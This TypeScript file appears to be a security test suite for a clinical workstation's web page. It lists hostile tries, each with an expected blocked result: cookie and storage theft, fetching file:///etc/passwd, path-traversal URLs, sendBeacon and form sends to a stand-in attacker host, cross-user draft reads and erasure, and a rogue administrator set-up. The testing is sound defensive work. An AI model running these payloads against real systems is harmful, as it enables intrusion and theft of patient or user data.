import type { Try } from './aim.ts';

// Each function runs in the page, where only `window.drill` of this module is in reach.
interface Drill {
  /** Resolves with the loot of an element that loads; rejects when it does not. */
  loads(element: HTMLElement & { src?: string; href?: string; data?: string }, url: string): Promise<string>;
  /** Resolves when an event refused the navigation; anything else shows in the address. */
  leaves(go: () => void): Promise<string>;
  rpc(channel: string, input?: unknown): Promise<string>;
  read(answer: Response): Promise<string>;
}
declare const drill: Drill;

/** Added to the page before the tries; it replaces nothing the page uses. */
export function installDrill(): void {
  const read = async (answer: Response) =>
    JSON.stringify([answer.status, [...answer.headers], await answer.text()]);
  const installed: Drill = {
    read,
    rpc: async (channel, input) =>
      read(
        await fetch(`/rpc/${channel}`, {
          method: 'POST',
          headers: { 'content-type': 'application/json' },
          body: JSON.stringify({ input }),
        }),
      ),
    loads: (element, url) =>
      new Promise((resolve, reject) => {
        element.onload = () => resolve(`loaded ${element.outerHTML}`);
        element.onerror = () => reject(new DOMException('', 'LoadError'));
        document.addEventListener(
          'securitypolicyviolation',
          () => reject(new DOMException('', 'PolicyError')),
          { once: true },
        );
        if (element instanceof HTMLLinkElement) element.href = url;
        else if (element instanceof HTMLObjectElement) element.data = url;
        else element.setAttribute('src', url);
        document.body.append(element);
      }),
    leaves: (go) =>
      new Promise((resolve, reject) => {
        const refuse = () => reject(new DOMException('', 'StillHere'));
        const { navigation } = window as unknown as { navigation: EventTarget };
        navigation.addEventListener('navigateerror', refuse, { once: true });
        document.addEventListener('securitypolicyviolation', refuse, { once: true });
        // If the page leaves its address, nothing hears this.
        setTimeout(() => resolve('nothing was refused'), 5_000);
        go();
      }),
  };
  Object.assign(window, { drill: installed });
}

const answered = (...statuses: number[]) => new RegExp(`^\\[(${statuses.join('|')}),`);

/** What a script in the workstation's own page might try. */
export const rendererTries: readonly Try[] = [
  { name: 'the cookie that lets the browser in', run: () => document.cookie, harmless: /^$/ },
  {
    name: 'the cookie by the cookie store',
    run: async () => {
      const { cookieStore } = window as unknown as { cookieStore: { getAll(): Promise<unknown[]> } };
      return JSON.stringify(await cookieStore.getAll());
    },
    harmless: /^\[\]$/,
  },
  {
    name: 'what is kept in the browser',
    run: async () =>
      JSON.stringify([
        { ...localStorage },
        { ...sessionStorage },
        await indexedDB.databases(),
        await caches.keys(),
        history.state,
        window.name,
      ]),
    harmless: /^\[\{\},\{\},\[\],\[\],null,""\]$/,
  },
  {
    name: 'the snapshot',
    run: () => drill.rpc('snapshot.get'),
    harmless: answered(200),
  },
  {
    name: 'the stream of snapshots',
    run: () =>
      new Promise<string>((resolve, reject) => {
        const source = new EventSource('/events');
        source.addEventListener('snapshot', (event) => {
          source.close();
          resolve(event.data);
        });
        source.onerror = reject;
      }),
    harmless: /^\{"revision"/,
  },
  {
    name: 'a file that holds everything the tests of the diagnostics look at',
    run: async () => {
      await drill.rpc('diagnostics.run', { restart: false });
      return await drill.rpc('diagnostics.export', { format: 'json' });
    },
    harmless: answered(200),
  },
  // Code from strings
  ...['default', 'react', 'dompurify', 'goog#html', 'try'].map((name) => ({
    name: `the policy ${name} of trusted types`,
    run: new Function(
      '',
      `return String(trustedTypes.createPolicy(${JSON.stringify(name)}, { createHTML: (text) => text }))`,
    ) as Try['run'],
  })),
  {
    name: 'markup by a parser',
    run: () => document.body.append(...new DOMParser().parseFromString('<b></b>', 'text/html').body.children),
  },
  {
    name: 'an answer to a dialog',
    run: () => String([window.confirm('?'), window.prompt('?')]),
    harmless: /^false,$/,
  },
  // Files
  {
    name: 'a file by fetch',
    run: async () => drill.read(await fetch('file:///etc/passwd')),
  },
  {
    name: 'a file in a frame',
    run: async () => {
      const frame = Object.assign(document.createElement('iframe'), { src: 'file:///etc/passwd' });
      document.body.append(frame);
      await new Promise((painted) => requestAnimationFrame(painted));
      return frame.contentDocument?.body.textContent;
    },
    harmless: /^$/,
  },
  {
    // Chromium does nothing at all.
    name: 'a file by going there',
    run: () => {
      location.href = 'file:///etc/passwd';
      return 'still here';
    },
    harmless: /^still here$/,
  },
  {
    name: 'a file by a picker that nobody asked for',
    run: async () => {
      const { showOpenFilePicker } = window as unknown as { showOpenFilePicker(): Promise<unknown> };
      return await showOpenFilePicker();
    },
  },
  ...[
    '/..%2f..%2f..%2f..%2fetc%2fpasswd',
    '/%2e%2e/%2e%2e/%2e%2e/etc/passwd',
    '/assets/..%5c..%5cpackage.json',
    '//etc/passwd',
    '/assets/%00',
    '/package.json',
    '/index.html.map',
    '/carelink.sqlite',
    '/__proto__',
    '/launch?code=guess',
    '/rpc',
    '/rpc/snapshot.get',
  ].map((path) => ({
    name: `${path} of the shell`,
    run: new Function(
      '',
      `return fetch(location.origin + ${JSON.stringify(path)}).then(drill.read)`,
    ) as Try['run'],
    harmless: answered(400, 403, 404, 405),
  })),
  // The token server and other hosts
  {
    name: 'the token server by fetch',
    run: async ({ server }) => drill.read(await fetch(`${server}/v1/me`)),
  },
  {
    name: 'the token server without CORS',
    run: ({ server }) => fetch(`${server}/account/token/`, { method: 'POST', mode: 'no-cors', body: '{}' }),
  },
  {
    name: 'the token server by XMLHttpRequest',
    run: ({ server }) =>
      new Promise((resolve, reject) => {
        const request = new XMLHttpRequest();
        request.onload = () => resolve(request.responseText);
        request.onerror = () => reject(new DOMException('', 'NetworkError'));
        request.open('GET', `${server}/healthz`);
        request.send();
      }),
  },
  {
    name: 'the token server by a WebSocket',
    run: ({ server }) =>
      new Promise((resolve, reject) => {
        const socket = new WebSocket(server.replace('http', 'ws'));
        socket.onopen = resolve;
        socket.onerror = () => reject(new DOMException('', 'SocketError'));
      }),
  },
  {
    name: 'the token server in a frame',
    run: ({ server }) => drill.loads(document.createElement('iframe'), `${server}/healthz`),
  },
  {
    name: 'the attacker by a picture',
    run: ({ attacker }) => drill.loads(new Image(), `${attacker}/image`),
  },
  {
    name: 'the attacker by a style sheet',
    run: ({ attacker }) =>
      drill.loads(
        Object.assign(document.createElement('link'), { rel: 'stylesheet' }),
        `${attacker}/style.css`,
      ),
  },
  {
    name: 'the attacker by a prefetch',
    run: ({ attacker }) =>
      drill.loads(Object.assign(document.createElement('link'), { rel: 'prefetch' }), `${attacker}/prefetch`),
  },
  {
    name: 'the attacker by an object',
    run: ({ attacker }) => drill.loads(document.createElement('object'), `${attacker}/object`),
  },
  {
    name: 'the attacker by a beacon',
    run: ({ attacker }) => drill.leaves(() => void navigator.sendBeacon(`${attacker}/beacon`, 'x')),
  },
  {
    name: 'the attacker by a form',
    run: ({ attacker }) =>
      drill.leaves(() => {
        const action = { action: `${attacker}/form`, method: 'post' };
        const form = Object.assign(document.createElement('form'), action);
        document.body.append(form);
        form.submit();
      }),
  },
  // Scripts and workers
  {
    name: 'a script from the attacker',
    run: ({ attacker }) => drill.loads(document.createElement('script'), `${attacker}/script.js`),
  },
  {
    name: 'a script made of text',
    run: () => {
      const { textContent } = Object.assign(document.createElement('script'), { textContent: 'void 0' });
      return textContent;
    },
  },
  {
    name: 'eval',
    // In a separate task: code evaluated by the test itself is allowed to do this.
    run: () =>
      new Promise((resolve, reject) => {
        document.addEventListener('securitypolicyviolation', reject, { once: true });
        Object.assign(window, { evaluated: resolve });
        setTimeout('window.evaluated("evaluated")' as unknown as () => void);
      }),
  },
  {
    name: 'a worker of its own',
    run: () =>
      new Promise((resolve, reject) => {
        const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])));
        worker.onmessage = resolve;
        worker.onerror = () => reject(new DOMException('', 'WorkerError'));
      }),
  },
  {
    name: 'a service worker, which would stay after the page',
    run: async () => {
      const script = document.querySelector<HTMLScriptElement>('script[src]')?.src ?? '';
      return String(await navigator.serviceWorker.register(script));
    },
  },
  // Windows and ways out
  {
    name: 'a second window',
    run: ({ shell }) => {
      if (window.open(shell) === null) throw new DOMException('', 'NoWindow');
      return 'a window';
    },
  },
  {
    name: 'a second window for the attacker',
    run: ({ attacker }) => {
      if (window.open(`${attacker}/window`, '_blank', 'popup') === null)
        throw new DOMException('', 'NoWindow');
      return 'a window';
    },
  },
  {
    name: 'the way out by the address',
    run: ({ attacker }) =>
      drill.leaves(() => {
        location.href = `${attacker}/address`;
      }),
  },
  {
    name: 'the way out by a link',
    run: ({ attacker }) =>
      drill.leaves(() => {
        const link = Object.assign(document.createElement('a'), { href: `${attacker}/link` });
        document.body.append(link);
        link.click();
      }),
  },
  {
    name: 'the way out by a download',
    run: ({ attacker }) =>
      drill.leaves(() => {
        const parts = { href: `${attacker}/download`, download: 'x' };
        const link = Object.assign(document.createElement('a'), parts);
        document.body.append(link);
        link.click();
      }),
  },
  {
    name: 'the way out by a refresh',
    run: ({ attacker }) =>
      drill.leaves(() => {
        const parts = { httpEquiv: 'refresh', content: `0;url=${attacker}/refresh` };
        document.head.append(Object.assign(document.createElement('meta'), parts));
      }),
  },
  {
    name: 'the way out through an empty frame',
    run: ({ attacker }) => {
      const frame = document.createElement('iframe');
      document.body.append(frame);
      return String(frame.contentWindow?.open(`${attacker}/frame`, '_top'));
    },
    harmless: /^(null|\[object Window\])$/,
  },
  {
    name: 'the way out after it has changed what events can do',
    run: async ({ attacker }) => {
      const { preventDefault } = Event.prototype;
      Event.prototype.preventDefault = () => undefined;
      try {
        return await drill.leaves(() => {
          location.href = `${attacker}/patched`;
        });
      } finally {
        Event.prototype.preventDefault = preventDefault;
      }
    },
  },
  // Other users
  {
    name: "another user's draft",
    run: ({ other }) => drill.rpc('draft.read', { username: other.username, name: 'handover' }),
    harmless: /not_possible_now/,
  },
  {
    name: "the list of another user's drafts",
    run: ({ other }) => drill.rpc('draft.list', { username: other.username }),
    harmless: /not_possible_now/,
  },
  {
    name: "the end of another user's drafts",
    run: ({ other }) => drill.rpc('draft.erase-all', { username: other.username }),
    harmless: /not_possible_now/,
  },
  {
    name: 'a draft outside of the folder of drafts',
    run: ({ user }) =>
      drill.rpc('draft.read', { username: user.username, name: '../../../../../../etc/passwd' }),
    harmless: answered(200, 400),
  },
  {
    name: "the end of another user's parked session",
    run: ({ other }) => drill.rpc('sessions.end-other', { sessionId: other.sessionId }),
    // Whoever asks, another user's session looks like one that has ended.
    harmless: answered(200),
  },
  {
    name: 'to sign in in place of another user, without a password',
    run: ({ other }) => drill.rpc('session.sign-in-replacing', { sessionId: other.sessionId }),
    harmless: /not_possible_now/,
  },
  {
    name: 'a second set-up, with an administrator of its own',
    run: () =>
      drill.rpc('setup.run', {
        administrator: { username: 'mallory', display_name: 'Mallory', password: 'plenty of loud tea' },
        ward: { name: 'Ward X', profile: 'standard' },
        station: 'X',
        demo_users: true,
      }),
    harmless: /already_done|not_possible_now|"ok\\":false/,
  },
  // Apps
  {
    name: 'what the page of an app shows',
    run: () => {
      const frame = document.querySelector('iframe');
      if (frame === null) throw new Error('There is no app on screen.');
      const { document: inside } = frame.contentWindow as Window;
      return inside.body.textContent;
    },
  },
  {
    name: 'the gateway of an app by fetch',
    run: async ({ gateways }) => drill.read(await fetch(`${gateways[0]}/.carelink/user`)),
  },
  {
    name: 'an app that is not there',
    run: () => drill.rpc('apps.open', { appId: '../../etc/passwd' }),
    harmless: /unknown_app/,
  },
  {
    name: 'an entry to an app by fetch',
    run: async () => {
      const opened = await drill.rpc('apps.open', { appId: 'vitals' });
      const frame = /http:[^"\\]+/.exec(opened)?.[0] ?? '';
      return drill.read(await fetch(frame));
    },
  },
  ...[
    'app.get-user',
    'app.draft',
    'app.locked',
    '__proto__',
    'constructor',
    'hasOwnProperty',
    'snapshot.changed',
  ].map(
    (channel): Try => ({
      name: `the call ${channel}`,
      run: new Function('', `return drill.rpc(${JSON.stringify(channel)}, {})`) as Try['run'],
      harmless: answered(404),
    }),
  ),
];
